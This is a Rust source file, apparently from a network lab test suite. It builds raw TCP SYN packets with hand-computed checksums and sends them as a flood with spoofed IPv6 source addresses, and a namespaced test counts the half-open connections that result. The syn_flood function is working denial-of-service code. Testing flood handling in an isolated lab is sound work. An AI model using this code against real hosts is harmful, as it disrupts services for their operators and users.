//! SYNs without anybody behind them, from a raw socket inside a lab.

use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};

use socket2::{Domain, Protocol, Socket, Type};

use super::{CLIENT_V4, NOBODY_V6};

/// Not a protocol: the sender writes the IP header.
const RAW: i32 = 255;

const TCP: u8 = 6;

/// Sends `count` SYNs to `destination`, each from another source: random addresses that nobody
/// has (IPv6), or random ports of the client (IPv4).
///
/// # Errors
/// When the kernel does not let us, or has no room: the rest is not sent.
pub fn syn_flood(destination: SocketAddr, count: u32) -> io::Result<()> {
    let domain = Domain::for_address(destination);
    let socket = Socket::new(domain, Type::RAW, Some(Protocol::from(RAW)))?;
    for n in 0..count {
        let random = n.wrapping_mul(0x9e37_79b1);
        let port = u16::try_from(1_024 + random % 60_000).expect("below 65,536");
        let packet = match destination.ip() {
            IpAddr::V4(to) => v4(CLIENT_V4, to, port, destination.port(), random),
            IpAddr::V6(to) => {
                let from = Ipv6Addr::from(u128::from(NOBODY_V6) | u128::from(random) << 8 | 1);
                v6(from, to, port, destination.port(), random)
            }
        };
        // The kernel wants a raw destination without a port.
        socket.send_to(&packet, &SocketAddr::new(destination.ip(), 0).into())?;
    }
    Ok(())
}

fn v4(from: Ipv4Addr, to: Ipv4Addr, source: u16, port: u16, sequence: u32) -> Vec<u8> {
    // RFC 791, section 3.1; length, id and checksum are the kernel's to fill in.
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, TCP, 0, 0];
    packet.extend(from.octets());
    packet.extend(to.octets());
    let pseudo = [&from.octets()[..], &to.octets(), &[0, TCP, 0, 20]].concat();
    packet.extend(syn(&pseudo, source, port, sequence));
    packet
}

fn v6(from: Ipv6Addr, to: Ipv6Addr, source: u16, port: u16, sequence: u32) -> Vec<u8> {
    // RFC 8200, section 3
    let mut packet = vec![0x60, 0, 0, 0, 0, 20, TCP, 64];
    packet.extend(from.octets());
    packet.extend(to.octets());
    let pseudo = [&from.octets()[..], &to.octets(), &[0, 0, 0, 20, 0, 0, 0, TCP]].concat();
    packet.extend(syn(&pseudo, source, port, sequence));
    packet
}

/// RFC 9293, section 3.1: twenty bytes and the checksum over them and the pseudo header.
fn syn(pseudo: &[u8], source: u16, port: u16, sequence: u32) -> [u8; 20] {
    let mut header = [0; 20];
    header[..2].copy_from_slice(&source.to_be_bytes());
    header[2..4].copy_from_slice(&port.to_be_bytes());
    header[4..8].copy_from_slice(&sequence.to_be_bytes());
    header[12] = 5 << 4;
    header[13] = 0x02;
    header[14..16].copy_from_slice(&0xffff_u16.to_be_bytes());
    let sum: u32 = [pseudo, &header]
        .concat()
        .chunks_exact(2)
        .map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])))
        .sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    let folded = (folded & 0xffff) + (folded >> 16);
    let checksum = !u16::try_from(folded).expect("folded twice");
    header[16..18].copy_from_slice(&checksum.to_be_bytes());
    header
}

#[cfg(test)]
mod tests {
    use std::net::TcpListener;
    use std::path::Path;

    use crate::lab::Lab;
    use crate::wait;

    use super::*;

    /// Half-open connections in the namespace of this thread.
    fn half_open(table: &str) -> usize {
        const SYN_RECV: &str = "03";
        let table = Path::new("/proc/thread-self/net").join(table);
        let table = std::fs::read_to_string(table).expect("the kernel tells");
        table.lines().filter(|line| line.split_whitespace().nth(3) == Some(SYN_RECV)).count()
    }

    #[test]
    fn a_flood_arrives_as_half_open_connections() {
        let Some(lab) = Lab::new() else { return };
        lab.edge().run(|| {
            let _listener = TcpListener::bind("[::]:4000").expect("a free port");
            let destination = "[2001:db8:1::9]:4000".parse().expect("an address");
            lab.client().run(|| syn_flood(destination, 50).expect("a raw socket"));
            wait::until("fifty handshakes have begun", || half_open("tcp6") == 50);
        });
    }
}
